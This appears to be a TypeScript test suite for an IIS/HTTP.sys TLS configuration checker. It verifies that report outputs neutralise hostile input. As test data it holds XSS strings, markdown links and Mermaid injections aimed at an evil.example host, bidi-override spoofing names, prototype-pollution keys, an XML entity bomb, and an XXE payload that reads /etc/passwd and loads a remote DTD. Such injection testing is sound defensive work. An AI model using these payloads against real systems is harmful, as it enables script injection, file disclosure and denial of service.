import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  checkMarkdown,
  checkText,
  escapeMarkdown,
  formatMessage,
  pictureOf,
  readBaseline,
  readProjectFile,
  renderMarkdown,
  renderMermaid,
  renderSvg,
  requestDocument,
  requestText,
  sarifDocument,
  severitiesOfSetting,
  showControls,
  traceFlow,
} from '../../src/core/index';
import { checkFiles, must, TOOL } from '../support/check';
import { utf16leWithBom } from '../support/encode';
import { schemaErrors } from '../support/schema';
import { sarifErrors } from '../support/sarifSchema';
import { descendants, readSvg } from '../support/svg';
import { A, access, host, M, metabase, root } from '../support/rules';
import type { Checked } from '../support/check';

const xml = (text: string): string =>
  text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('"', '&quot;')
    .replace(/[\t\n]/g, (character) => `&#${character.charCodeAt(0)};`);

/** A site with a name, that name as a host name, and a location that cannot work, so that findings name it. */
function server(name: string): string {
  const binding = `<binding protocol="https" bindingInformation="*:443:${xml(name)}" />`;
  return host(binding, access('SslRequireCert', `${xml(name)}/a`), xml(name));
}

interface Outputs {
  readonly markdown: readonly string[];
  readonly svg: string;
  readonly mermaid: string;
  readonly text: readonly string[];
}

function outputsOf({ analysis, site }: Checked, name: string): Outputs {
  const trace = traceFlow(analysis.server, site(name), '/a');
  const picture = pictureOf(trace);
  return {
    markdown: [checkMarkdown(analysis), renderMarkdown(picture)],
    svg: renderSvg(picture, { heading: true }),
    mermaid: renderMermaid(picture),
    text: [checkText(analysis), requestText(analysis, trace)],
  };
}

describe('names made of markup stay names', () => {
  for (const name of [
    '"><img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '[x](command:workbench.action.quit)',
    '![x](https://evil.example/x.png)',
    '<https://evil.example>',
    'www.evil.example',
    'a@evil.example',
    '`x` **b** ~~c~~ | d',
    '$(sync~spin)',
    '%%{init: {}}%%;#35;',
  ]) {
    it(name, () => {
      const checked = checkFiles({ [A]: server(name) });
      const { markdown, svg, mermaid, text } = outputsOf(checked, name);
      assert.ok(
        checked.document.findings.some(({ site }) => site === name),
        'JSON has the name as it is',
      );
      for (const report of markdown) {
        assert.ok(report.includes(escapeMarkdown(name)), 'Markdown has it escaped');
        for (const live of [/<[a-z]/i, /(?<!\\)\]\(/, /(?<!\\)`(?=x)/, /:\/\/evil/, /\bwww\./i, /\w@\w/])
          assert.doesNotMatch(report, live);
      }
      const elements = [...descendants(readSvg(svg))];
      assert.ok(
        elements.some((element) => element.text.includes(name)),
        'SVG has it as text',
      );
      assert.ok(elements.every((element) => !['img', 'script', 'a', 'image', 'foreignObject'].includes(element.name)));
      assert.doesNotMatch(mermaid, /<[a-z]|%%\{/i);
      assert.ok(text.every((report) => report.includes(name)));
    });
  }
});

describe('control characters and right-to-left overrides are shown', () => {
  for (const [what, name, visible] of [
    ['a right-to-left override', 'a\u202etxt.exe', 'a⟨U+202E⟩txt.exe'],
    ['isolates and marks', '\u2066a\u2069\u200e', '⟨U+2066⟩a⟨U+2069⟩⟨U+200E⟩'],
    ['a colour for a terminal', 'a\u001b[31mb', 'a⟨U+001B⟩[31mb'],
    ['a C1 control', 'a\u009bb', 'a⟨U+009B⟩b'],
    ['what takes no room', 'a\u200bb\ufeffc\u2060', 'a⟨U+200B⟩b⟨U+FEFF⟩c⟨U+2060⟩'],
    ['ends of lines', 'a\u2028b\u2029c\nd', 'a⟨U+2028⟩b⟨U+2029⟩c d'],
    ['letters that are tags', 'a\u{e0041}b', 'a⟨U+E0041⟩b'],
  ] as const) {
    it(what, () => {
      const checked = checkFiles({ [A]: server(name) });
      assert.equal(showControls(name), visible);
      const { markdown, svg, mermaid, text } = outputsOf(checked, name);
      for (const report of [...markdown, svg, mermaid, ...text]) {
        const hidden = [...name].filter((character) => !visible.includes(character));
        for (const character of hidden.filter((each) => each !== '\n')) assert.ok(!report.includes(character));
      }
      assert.ok(svg.includes(visible));
      assert.ok(text.every((report) => report.includes(visible)));
      assert.ok(
        checked.document.sites.some((site) => site.name === name),
        'JSON has the name as it is',
      );
    });
  }
});

describe('names that every object has are names like others', () => {
  for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype', 'valueOf']) {
    it(`${name}: sites, hosts, paths, applications and attributes`, () => {
      const text = server(name)
        .replace(
          '<bindings>',
          `<application path="/${name}" ${name}="1"><virtualDirectory path="/${name}" physicalPath="C:\\${name}" /></application><bindings ${name}="x"><${name} />`,
        )
        .replace('</configuration>', `${access(name, `${name}/${name}`)}<${name} ${name}="${name}" /></configuration>`);
      const checked = checkFiles({ [A]: text, [`${name}/web.config`]: '<configuration />' });
      const { analysis, document } = checked;
      assert.equal(checked.site(name).bindings[0]?.host, name);
      assert.deepEqual(
        document.sites.map((site) => [site.name, ...site.paths.map(({ path }) => path).sort()]),
        [[name, ...['/', `/${name}`, '/a'].sort()]],
      );
      assert.ok(checked.found('require-cert-without-negotiate').some(({ path }) => path === '/a'));
      assert.deepEqual(schemaErrors(document), []);
      const trace = traceFlow(analysis.server, checked.site(name), `/${name}`);
      assert.deepEqual(schemaErrors(JSON.parse(JSON.stringify(requestDocument(analysis, trace)))), []);
      assert.deepEqual(sarifErrors(JSON.parse(JSON.stringify(sarifDocument(analysis, TOOL, () => null)))), []);
    });

    it(`${name}: keys and properties of the metabase`, () => {
      const text = metabase(
        `SecureBindings=":443:${name}" ${name}="1"`,
        root(`AccessSSLFlags="${name}" ${name}="${name}"`, `/${name}`),
      ).replace('ServerComment="Site"', `ServerComment="${name}"`);
      const checked = checkFiles({ [M]: text });
      assert.equal(checked.site(name).bindings[0]?.host, name);
      assert.equal(checked.path(name, `/${name}`).access.flags.value.bits, null);
    });

    it(`${name}: keys and values of a registry export`, () => {
      const parameters = 'HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\HTTP\\Parameters';
      const text = `Windows Registry Editor Version 5.00\r\n\r\n[${parameters}]\r\n"${name}"=dword:00000001\r\n"EnableHttp2Tls"=dword:00000000\r\n\r\n[${parameters}\\SslSniBindingInfo\\${name}:443]\r\n"${name}"=dword:00000001\r\n"SslCertStoreName"="${name}"\r\n\r\n[${name}]\r\n`;
      const { entries } = checkFiles({ 'http.reg': utf16leWithBom(text) }).analysis.server.httpSys;
      assert.deepEqual(
        entries.map((entry) => [entry.kind, entry.name, entry.port, entry.store]),
        [['hostnamePort', name.toLowerCase(), 443, name]],
      );
    });

    it(`${name}: labels and values of netsh, as text and as JSON`, () => {
      const text = `SSL Certificate bindings:\r\n-------------------------\r\n\r\n    Hostname:port                : ${name}:443\r\n    ${name}                : ${name}\r\n    Certificate Store Name       : ${name}\r\n`;
      const json = `{"SslCertificateBindings":[{"HostnamePort":"${name}:443","${name}":"x","SslCertStoreName":"${name}"}]}`;
      for (const [file, content] of [
        ['sslcert.txt', text],
        ['sslcert.json', json],
      ] as const) {
        const { entries } = checkFiles({ [file]: content }).analysis.server.httpSys;
        assert.deepEqual(
          entries.map((entry) => [entry.name, entry.port, entry.store]),
          [[name.toLowerCase(), 443, name]],
          file,
        );
      }
    });

    it(`${name}: project files, settings and baselines`, () => {
      const text = `{"servers":[{"name":"${name}","files":["${name}"],"paths":{"${name}":"${name}"},"roles":{"${name}":[]},"${name}":1}],"rules":{"${name}":"error","sni-without-host":"${name}"},"${name}":{}}`;
      const project = readProjectFile(text);
      const [named] = must(project.servers, 'servers');
      assert.deepEqual([named?.name, named?.files, [...(named?.paths ?? [])]], [name, [name], [[name, name]]]);
      assert.deepEqual([...project.severities], []);
      assert.deepEqual(
        project.problems.map(({ message }) => formatMessage(message).includes(name)),
        [true, true],
      );
      assert.deepEqual([...severitiesOfSetting(JSON.parse(`{"${name}":"error"}`))], []);
      const entry = `{"rule":"${name}","site":"${name}","path":null,"key":"${name}","count":1}`;
      const read = readBaseline(`{"schemaVersion":1,"findings":[${entry}]}`);
      assert.deepEqual('entries' in read && read.entries.map(({ rule, site, key }) => [rule, site, key]), [
        [name, name, name],
      ]);
      assert.ok('problem' in readBaseline(`{"${name}":{"schemaVersion":1,"findings":[${entry}]}}`));
      assert.ok('problem' in readBaseline(`{"schemaVersion":1,"findings":[{"${name}":${entry}}]}`));
    });
  }

  it('leave the objects of the program as they were', () => {
    assert.deepEqual(Object.keys(Object.prototype), []);
    assert.equal(({} as Record<string, unknown>)['rule'], undefined);
  });
});

describe('documents that ask for more than they hold', () => {
  const bomb = `<!DOCTYPE configuration [<!ENTITY a0 "boom">${Array.from(
    { length: 12 },
    (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`,
  ).join('')}]>`;

  it('an XML bomb is reported, and its entities stay as they are written', () => {
    const { analysis, found } = checkFiles({
      [A]: bomb + host('<binding protocol="https" bindingInformation="*:443:&a12;" />', '', '&a12;'),
    });
    assert.ok(found('xml-syntax').some(({ place }) => place.range.start === 0));
    assert.equal(analysis.server.sites[0]?.name, '&a12;');
    assert.ok(!JSON.stringify(analysis.findings).includes('boom'));
  });

  it('an external entity is reported and stays as it is written', () => {
    const { analysis, found } = checkFiles({
      [A]: `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>${host('', '', '&xxe;')}`,
    });
    assert.ok(found('xml-syntax').length > 0);
    assert.equal(analysis.server.sites[0]?.name, '&xxe;');
  });
});
